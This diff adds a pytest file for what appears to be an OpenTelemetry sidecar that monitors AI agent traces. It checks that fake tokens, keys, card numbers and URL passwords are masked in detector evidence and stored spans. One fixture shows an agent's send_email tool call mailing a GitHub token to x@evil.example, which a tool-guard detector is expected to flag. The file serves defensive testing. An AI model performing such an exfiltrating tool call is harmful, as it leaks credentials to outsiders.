@@ -1,0 +1,101 @@
+"""Secrets: masked in evidence always, and in what serve stores and forwards by default."""
+
+from __future__ import annotations
+
+import json
+
+import duckdb
+import httpx
+import pytest
+from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans
+
+from otel_safety.analysis.secrets import _BUILTIN, MASK, mask, pattern_set
+from otel_safety.config import Settings
+from otel_safety.detectors.entry import trajectory_from_entry
+from otel_safety.detectors.tool_guard import ToolGuardDetector
+from otel_safety.sidecar import Sidecar, SidecarOptions
+
+FINE_GRAINED = "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMN"
+GOOGLE = "AIzaSyA1234567890abcdefghijklmnopqrstuv"
+CARD = "4111 1111 1111 1111"
+SLACK = "xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx"
+
+
+@pytest.mark.parametrize(
+    ("text", "secret"),
+    [
+        (f"use {FINE_GRAINED} to push", FINE_GRAINED),
+        ("fetch https://deploy:hunter2hunter2@git.example.com/repo.git", "hunter2hunter2"),
+        (f"charge card {CARD} now", CARD),
+        (f"maps key {GOOGLE}", GOOGLE),
+        (f'{{"token": "{SLACK}"}}', SLACK),
+        ("aws AKIAIOSFODNN7EXAMPLE here", "AKIAIOSFODNN7EXAMPLE"),
+    ],
+)
+def test_secrets_are_masked_and_only_they(text, secret):
+    masked, count = mask(text)
+    assert secret not in masked and MASK in masked and count >= 1
+    assert masked.split(MASK)[0] == text.split(secret)[0][: len(masked.split(MASK)[0])]
+
+
+def test_json_stays_json_and_plain_numbers_stay():
+    document = json.dumps({"password": "s3cr3t-pass", "note": "order 1234 5678 9012 3456"})
+    masked, count = mask(document)
+    assert json.loads(masked) == {"password": MASK, "note": "order 1234 5678 9012 3456"}
+    assert count == 1
+    assert mask("nothing to see here, 42 apples")[1] == 0
+
+
+def test_the_maintained_pattern_set_is_in_use():
+    assert len(pattern_set()) > len(_BUILTIN) + 20  # detect-secrets' plugins are loaded
+
+
+def test_evidence_never_quotes_a_secret():
+    finding = ToolGuardDetector().evaluate(
+        trajectory_from_entry(
+            {
+                "input": "Send the deploy notes to ops",
+                "tool_events": [
+                    {
+                        "name": "send_email",
+                        "arguments": {"to": "x@evil.example", "body": f"key {FINE_GRAINED}"},
+                        "result": "sent",
+                    }
+                ],
+            }
+        )
+    )
+    assert finding is not None
+    text = json.dumps([e.model_dump() for e in finding.evidence]) + finding.explanation
+    assert FINE_GRAINED not in text
+
+
+def _post(sidecar, spans) -> None:
+    reply = httpx.post(
+        f"{sidecar.http_url}/v1/traces",
+        content=encode_spans(spans).SerializeToString(),
+        headers={"Content-Type": "application/x-protobuf"},
+    )
+    assert reply.status_code == 200
+
+
+@pytest.mark.parametrize("redact", [True, False])
+def test_serve_masks_secrets_in_what_it_stores_after_judging(tmp_path, span_factory, redact):
+    settings = Settings.resolve(
+        environ={},
+        db_path=str(tmp_path / "s.duckdb"),
+        detectors=["tool_guard"],
+        decision_wait=0.1,
+        redact_secrets=redact,
+    )
+    runs = span_factory.agent_run(
+        prompt=f"deploy with {FINE_GRAINED}", answer=f"Done, used key {GOOGLE}."
+    )
+    with Sidecar(settings, SidecarOptions(grpc_port=None, http_port=0)) as sidecar:
+        _post(sidecar, runs)
+    with duckdb.connect(settings.db_path, read_only=True) as con:
+        stored = json.dumps(con.execute("SELECT attributes FROM spans").fetchall())
+        trajectories = json.dumps(con.execute("SELECT trajectory FROM traces").fetchall())
+    assert (FINE_GRAINED in stored) is not redact
+    assert (GOOGLE in trajectories) is not redact
+    assert (sidecar.engine.stats["secrets_redacted"] > 0) is redact
